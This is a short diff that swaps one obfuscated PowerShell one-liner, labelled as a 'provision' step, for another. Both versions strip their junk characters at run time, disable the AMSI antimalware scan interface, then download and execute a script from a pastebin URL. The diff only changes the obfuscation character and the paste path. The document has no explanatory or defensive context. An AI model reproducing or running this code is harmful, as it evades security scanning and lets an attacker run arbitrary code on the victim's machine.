@@ -1,4 +1,4 @@
-iex (('# provision 2683 v0
-[!Ref].Assembly.GetType(''System.Management.Automation.AmsiUtils'').GetF!ield(''amsiInitFailed'',''NonPublic,Static'').SetValue($null,$true)
-IEX (New-Object Net.WebClient).Downl!oadString(''https:!//pa!stebin.com/raw/helpdesk'')
-' -split '!') -join '')
+iex (('# provision 6846 v0
+[Ref].~Assem~bly.GetType(''System.Man~agement.Automation.AmsiUtils'').GetField(''amsiInitFailed'',''NonPublic,Static'').SetValue($null,$true)
+IEX (New-Object Net~.WebClient).DownloadString(''https://pastebin.com/raw/support'')
+' -split '\~') -join '')
